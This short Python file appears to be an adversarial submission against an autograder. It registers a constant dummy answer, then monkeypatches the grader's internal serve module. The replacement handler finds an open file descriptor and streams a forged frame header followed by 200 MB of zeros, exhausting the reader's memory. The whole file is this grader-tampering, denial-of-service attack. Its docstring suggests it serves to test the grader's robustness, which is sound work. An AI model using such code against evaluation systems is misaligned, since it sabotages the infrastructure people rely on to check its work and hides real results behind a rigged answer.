"""An answer of 200 MB of zeros, more than its own memory would hold as an array: only the reader has to keep it."""

import os
import struct
import sys

serve = sys.modules["autograder.worker.serve"]
answer(lambda *args, **kwargs: 0.0)
HEADER = b'{"ok": true, "value": null}'
SIZE = 200 * 2**20


def flood(executor, header, body):
    number = next(n for n in range(3, 64) if not isinstance(attempt(os.fstat, n), BaseException))
    serve.write_all(number, struct.pack(">4sIQ", b"CXR1", len(HEADER), SIZE) + HEADER)
    for _ in range(SIZE // 2**20):
        serve.write_all(number, bytes(2**20))
    return b""


serve._answer = flood
